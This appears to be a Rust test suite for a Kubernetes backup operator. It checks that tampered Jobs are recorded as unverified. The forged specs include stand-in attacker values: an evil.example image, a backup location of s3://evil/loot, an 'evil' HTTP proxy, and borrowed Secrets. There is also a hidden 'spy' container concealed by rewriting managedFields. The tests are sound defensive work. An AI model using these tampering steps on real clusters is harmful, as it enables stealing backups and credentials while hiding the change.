//! Runs that do something else than the operator applied, and runs that only look so.

use crate::is;
use crate::support::policy::Mutating;
use crate::support::{Nightly, control_plane, eventually, kubelet, operator, shared};
use anyhow::{Context as _, ensure};
use cluster_model::cron_job::{self, Trigger};
use k8s_openapi::{
    api::{
        batch::v1::{CronJob, Job},
        core::v1::Pod,
    },
    jiff::Timestamp,
};
use kube::api::{DeleteParams, Patch, PatchParams, PostParams};
use local_cluster::ControlPlane;
use serde_json::{Value, json};
use std::{
    io::Write as _,
    process::{Output, Stdio},
};

const POD: &str = "/spec/template/spec";

/// Who may do in the namespace what `rules` say.
async fn mallory(nightly: &Nightly, rules: Value) {
    let group = "rbac.authorization.k8s.io";
    let version = format!("{group}/v1");
    nightly.apply(&version, "Role", "mallory", json!({"rules": rules})).await;
    let binding = json!({
        "roleRef": {"apiGroup": group, "kind": "Role", "name": "mallory"},
        "subjects": [{"apiGroup": group, "kind": "User", "name": "mallory"}],
    });
    nightly.apply(&version, "RoleBinding", "mallory", binding).await;
}

/// Runs kubectl as mallory, with an object as its input.
async fn as_mallory(control_plane: &ControlPlane, arguments: &[&str], input: Value) -> Output {
    let mut kubectl = control_plane.kubectl().unwrap();
    kubectl.args(arguments).args(["--as=mallory"]);
    let kubectl = kubectl.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = kubectl.spawn().unwrap();
    child.stdin.take().unwrap().write_all(input.to_string().as_bytes()).unwrap();
    tokio::task::spawn_blocking(move || child.wait_with_output().unwrap()).await.unwrap()
}

fn assert_done(output: &Output) {
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
}

/// Returns a Job of a CronJob as its controller makes it, for a scheduled time.
fn forged(cron_job: &CronJob, name: &str) -> Value {
    let minute = Timestamp::from_second(Timestamp::now().as_second() / 60 * 60).unwrap();
    let mut job = json!(cron_job::job(cron_job, Trigger::Schedule(minute)));
    (job["apiVersion"], job["kind"]) = ("batch/v1".into(), "Job".into());
    job["metadata"]["name"] = name.into();
    job
}

async fn the_cron_job(nightly: &Nightly) -> CronJob {
    eventually("the CronJob", async || Ok(nightly.all::<CronJob>().get("nightly-cron").await?)).await
}

fn is_changed(record: &Value) -> bool {
    record["reason"] == "TemplateChanged" && record["verified"] == false
}

fn is_verified(record: &Value) -> bool {
    record["status"] == "Completed" && record["verified"] == true && record.get("reason").is_none()
}

#[tokio::test]
async fn a_job_that_does_something_else_is_neither_scheduled_nor_verified_whatever_it_says_of_itself() {
    let control_plane = shared().await;
    let nightly = Nightly::create(control_plane, "forged", json!({})).await;
    let may_create = json!([{"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["create"]}]);
    mallory(&nightly, may_create).await;
    let cron_job = the_cron_job(&nightly).await;
    nightly.until_healthy("Unknown", "NoRunYet").await;

    let changes: [(&str, &str, Value, &str); 7] = [
        ("image", "/containers/0/image", json!("evil.example/backup:1"), "containers[backup].image"),
        (
            "args",
            "/containers/0/args",
            json!(["backup", "--server=http://x", "--location=s3://evil/loot"]),
            "containers[backup].args",
        ),
        ("env", "/containers/0/env/-", json!({"name": "HTTP_PROXY", "value": "http://evil"}), "containers[backup].env"),
        (
            "env-from",
            "/containers/0/envFrom",
            json!([{"secretRef": {"name": "theirs", "optional": true}}]),
            "containers[backup].envFrom",
        ),
        ("volumes", "/volumes", json!([{"name": "v", "emptyDir": {}}]), "volumes"),
        ("init", "/initContainers", json!([]), "initContainers"),
        ("account", "/serviceAccountName", json!("theirs"), "serviceAccountName"),
    ];
    for (name, pointer, value, path) in changes {
        let mut job = forged(&cron_job, name);
        let value = if name == "init" {
            let mut container = job.pointer(&format!("{POD}/containers/0")).unwrap().clone();
            container["name"] = "first".into();
            json!([container])
        } else {
            value
        };
        let patch = json!([{"op": "add", "path": format!("{POD}{pointer}"), "value": value}]);
        let patch: json_patch::Patch = serde_json::from_value(patch).unwrap();
        json_patch::patch(&mut job, &patch).unwrap();
        if name == "account" {
            nightly.apply("v1", "ServiceAccount", "theirs", json!({})).await;
        }
        assert_done(&as_mallory(control_plane, &["create", "-f", "-"], job).await);
        nightly.until_record(name, "that is told while it runs", is_changed).await;
        nightly.succeed(name).await;
        let record = nightly.until_record(name, "Completed", is("Completed")).await;
        assert!(is_changed(&record), "{record}");
        assert_eq!((&record["trigger"], record.get("scheduledTime")), (&json!("Manual"), None), "{record}");
        let error = record["error"].as_str().unwrap();
        assert!(error.starts_with("not verified: ") && error.ends_with(&format!(" in {path}")), "{error}");
    }
    let status = nightly.status().await.unwrap();
    assert_eq!((status.get("lastSuccessfulBackup"), status.get("lastScheduledTime")), (None, None), "{status}");
    nightly.until_healthy("Unknown", "NoRunYet").await;

    // one that does what was applied counts
    nightly.start("honest").await;
    nightly.succeed("honest").await;
    let honest = nightly.until_record("honest", "verified", is_verified).await;
    assert_eq!(nightly.status().await.unwrap()["lastSuccessfulBackup"], honest);
}

#[tokio::test]
async fn an_edit_or_several_during_a_run_take_nothing_from_it() {
    let nightly = Nightly::create(shared().await, "edited-runs", json!({"schedule": "* * * * *"})).await;
    let scheduled = crate::scheduled_job(&nightly).await;
    nightly.until_record(&scheduled, "of a Pod", |record| record["backupIdKnown"] == true).await;
    nightly.change(json!({"spec": {"schedule": "0 2 29 2 *"}})).await;
    for edit in 0..5 {
        let location = format!("s3://bucket/edit-{edit}");
        nightly.change(json!({"spec": {"destination": {"location": location}}})).await;
        eventually("the CronJob to be edited", async || {
            let cron_job = json!(nightly.all::<CronJob>().get("nightly-cron").await?);
            let args = cron_job.pointer("/spec/jobTemplate/spec/template/spec/containers/0/args").cloned();
            ensure!(args.clone().is_some_and(|args| args.to_string().contains(&location)), "it has {args:?}");
            Ok(())
        })
        .await;
    }
    nightly.start("of-the-edit").await;
    for job in [scheduled.as_str(), "of-the-edit"] {
        nightly.succeed(job).await;
        nightly.until_record(job, "verified", is_verified).await;
    }
    let record = nightly.until_record(&scheduled, "by schedule", |_| true).await;
    assert_eq!((&record["trigger"], &record["location"]), (&json!("Scheduled"), &json!("s3://bucket/backups")));
}

#[tokio::test]
async fn an_upgrade_during_a_run_takes_nothing_from_it_nor_from_records_of_before() {
    let control_plane = control_plane().await;
    let mut before = operator(&control_plane, "before", &[]);
    let nightly = Nightly::create(&control_plane, "upgraded", json!({})).await;
    nightly.start("ended").await;
    nightly.succeed("ended").await;
    let ended = nightly.until_record("ended", "verified", is_verified).await;
    nightly.start("recorded").await;
    nightly.until_record("recorded", "of a Pod", |record| record["backupIdKnown"] == true).await;
    before.kill().unwrap();
    // the version before noted no templates; and this one it has not seen
    let without = json!({"status": {"appliedTemplates": null}});
    nightly.backups().patch_status("nightly", &PatchParams::default(), &Patch::Merge(without)).await.unwrap();
    nightly.start("unrecorded").await;

    let mut after = operator(&control_plane, "after", &["--job-image", "example.com/operator:v2"]);
    eventually("the CronJob of the new version", async || {
        let cron_job = json!(nightly.all::<CronJob>().get("nightly-cron").await?);
        ensure!(cron_job.to_string().contains("operator:v2"), "it is the old one");
        Ok(())
    })
    .await;
    nightly.start("new").await;
    for job in ["recorded", "unrecorded", "new"] {
        nightly.succeed(job).await;
        nightly.until_record(job, "verified", is_verified).await;
    }
    assert_eq!(nightly.until_record("ended", "there", |_| true).await, ended);
    let templates = |status: &Value| status["appliedTemplates"].as_array().unwrap().len();
    assert_eq!(templates(&nightly.status().await.unwrap()), 2);

    // and the next one, which finds the templates noted
    nightly.start("again").await;
    nightly.until_record("again", "of a Pod", |record| record["backupIdKnown"] == true).await;
    after.kill().unwrap();
    let _last = operator(&control_plane, "last", &["--job-image", "example.com/operator:v3"]);
    nightly.succeed("again").await;
    nightly.until_record("again", "verified", is_verified).await;
}

#[tokio::test]
async fn a_queue_that_holds_a_job_back_and_says_where_it_runs_changes_nothing_of_it() {
    let nightly = Nightly::create(shared().await, "queue", json!({})).await;
    the_cron_job(&nightly).await;
    let expression = r#"[
        JSONPatch{op: "add", path: "/spec/suspend", value: true},
        JSONPatch{op: "add", path: "/metadata/labels/kueue.x-k8s.io~1queue-name", value: "backups"}]"#;
    change_new(&nightly, "queue", "batch", "jobs", expression, "held-trial", |job: &Job| {
        job.spec.as_ref().and_then(|spec| spec.suspend) == Some(true)
    })
    .await;
    nightly.start("held").await;
    nightly.until_record("held", "Suspended", |record| record["reason"] == "Suspended").await;
    let admitted = json!({"spec": {"suspend": false, "template": {
        "metadata": {"labels": {"kueue.x-k8s.io/podset": "main"}},
        "spec": {"nodeSelector": {"pool": "spot"}, "tolerations": [{"key": "spot", "operator": "Exists"}]},
    }}});
    nightly.all::<Job>().patch("held", &PatchParams::default(), &Patch::Merge(admitted)).await.unwrap();
    assert_eq!(nightly.pod("held").await.spec.unwrap().node_selector.unwrap()["pool"], "spot");
    nightly.succeed("held").await;
    nightly.until_record("held", "verified", is_verified).await;
}

/// Has the admission of the API server change new objects of a kind in the namespace; waits until a trial shows it.
async fn change_new(
    nightly: &Nightly,
    namespace: &str,
    group: &str,
    resource: &str,
    expression: &str,
    trial: &str,
    fits: impl Fn(&Job) -> bool,
) {
    let name = format!("new-{resource}-of-{namespace}");
    let (namespace, expressions) = (Some(namespace), &[expression][..]);
    let policy = Mutating { name: &name, namespace, group, resource, operations: &["CREATE"], expressions };
    policy.install(&shared().await.client().await.unwrap()).await;
    let cron_job = the_cron_job(nightly).await;
    eventually("the policy to be in force", async || {
        let mut job = json!(cron_job::job(&cron_job, Trigger::Manual));
        job["metadata"]["name"] = trial.into();
        let dry_run = PostParams { dry_run: true, ..PostParams::default() };
        let job = nightly.all::<Job>().create(&dry_run, &serde_json::from_value(job)?).await?;
        ensure!(fits(&job), "it is not: {job:?}");
        Ok(())
    })
    .await;
}

#[tokio::test]
async fn a_sidecar_that_admission_adds_to_the_pod_runs_beside_the_credentials_so_the_backup_is_not_verified() {
    let nightly = Nightly::create(shared().await, "injected", json!({})).await;
    the_cron_job(&nightly).await;
    let expression = r#"[JSONPatch{op: "copy", from: "/spec/containers/0", path: "/spec/containers/-"},
        JSONPatch{op: "replace", path: "/spec/containers/1/name", value: "mesh"}]"#;
    let policy = Mutating {
        name: "inject-mesh",
        namespace: Some("injected"),
        group: "",
        resource: "pods",
        operations: &["CREATE"],
        expressions: &[expression],
    };
    policy.install(&shared().await.client().await.unwrap()).await;
    let trial = json!({"metadata": {"name": "trial"}, "spec": {"containers": [{
        "name": "backup", "image": "x", "securityContext": {"allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}},
    }], "securityContext": {"runAsNonRoot": true, "seccompProfile": {"type": "RuntimeDefault"}}}});
    eventually("the policy to be in force", async || {
        let dry_run = PostParams { dry_run: true, ..PostParams::default() };
        // the ServiceAccount may not be there yet
        let pod = nightly.all::<Pod>().create(&dry_run, &serde_json::from_value(trial.clone())?).await?;
        ensure!(pod.spec.context("it has no spec")?.containers.len() == 2, "it is not");
        Ok(())
    })
    .await;
    nightly.start("meshed").await;
    nightly.until_record("meshed", "that is told while it runs", is_changed).await;
    let pod = nightly.pod("meshed").await;
    let states = [("backup", kubelet::ended_well(&pod)), ("mesh", kubelet::ended(0, "Completed", ""))];
    nightly.report_of(&pod, kubelet::status("Succeeded", &states)).await;
    let record = nightly.until_record("meshed", "Completed", is("Completed")).await;
    assert!(is_changed(&record), "{record}");
    assert!(record["error"].as_str().unwrap().ends_with("in containers"), "{record}");
    nightly.suspend().await;
    let [(_, note)] = &nightly.events("BackupCompleted").await[..] else { panic!("one event") };
    assert!(note.contains("not verified: "), "{note}");
}

#[tokio::test]
async fn what_somebody_hides_in_the_cron_job_is_not_taken_for_what_admission_answered() {
    let control_plane = shared().await;
    let nightly = Nightly::create(control_plane, "hidden-in-it", json!({})).await;
    let may_edit = json!([
        {"apiGroups": ["batch"], "resources": ["cronjobs"], "verbs": ["get", "patch", "update"]},
        {"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["create"]},
    ]);
    mallory(&nightly, may_edit).await;
    nightly.until_healthy("Unknown", "NoRunYet").await;
    let pod = "/spec/jobTemplate/spec/template/spec";

    // a container that nobody owns: he adds it and clears his own entry of managedFields
    let cron_job = the_cron_job(&nightly).await;
    let mut spied = json!(cron_job);
    (spied["apiVersion"], spied["kind"]) = ("batch/v1".into(), "CronJob".into());
    let mut spy = spied.pointer(&format!("{pod}/containers/0")).unwrap().clone();
    (spy["name"], spy["image"]) = ("spy".into(), "evil.example/spy:1".into());
    spied.pointer_mut(&format!("{pod}/containers")).unwrap().as_array_mut().unwrap().push(spy);
    let of_spy = forged(&serde_json::from_value(spied.clone()).unwrap(), "of-spy");
    spied["metadata"].as_object_mut().unwrap().remove("resourceVersion");
    spied["metadata"].as_object_mut().unwrap().remove("managedFields");
    spied.as_object_mut().unwrap().remove("status");
    assert_done(&as_mallory(control_plane, &["replace", "-f", "-"], spied).await);
    let fields = nightly.all::<CronJob>().get("nightly-cron").await.unwrap().metadata.managed_fields;
    let ours: Vec<_> =
        fields.iter().flatten().filter(|it| it.manager.as_deref() == Some("antfly-backup-operator")).collect();
    let patch = json!([{"op": "replace", "path": "/metadata/managedFields", "value": ours}]).to_string();
    let arguments = ["patch", "cronjob", "nightly-cron", "-n", "hidden-in-it", "--type=json", "-p", &patch];
    as_mallory(control_plane, &arguments, json!(null)).await;
    // and has the operator apply anew
    nightly.change(json!({"spec": {"failedJobsHistoryLimit": 7}})).await;
    eventually("the container to be gone", async || {
        let cron_job = nightly.all::<CronJob>().get("nightly-cron").await?;
        let text = json!(cron_job).to_string();
        ensure!(!text.contains("evil.example") && cron_job.spec.failed_jobs_history_limit == Some(7), "it is {text}");
        Ok(())
    })
    .await;

    assert_done(&as_mallory(control_plane, &["create", "-f", "-"], of_spy).await);
    nightly.until_record("of-spy", "that is told while it runs", is_changed).await;
    nightly.all::<Job>().delete("of-spy", &DeleteParams::background()).await.unwrap();
    nightly.start("honest").await;
    nightly.succeed("honest").await;
    nightly.until_record("honest", "verified", is_verified).await;
}
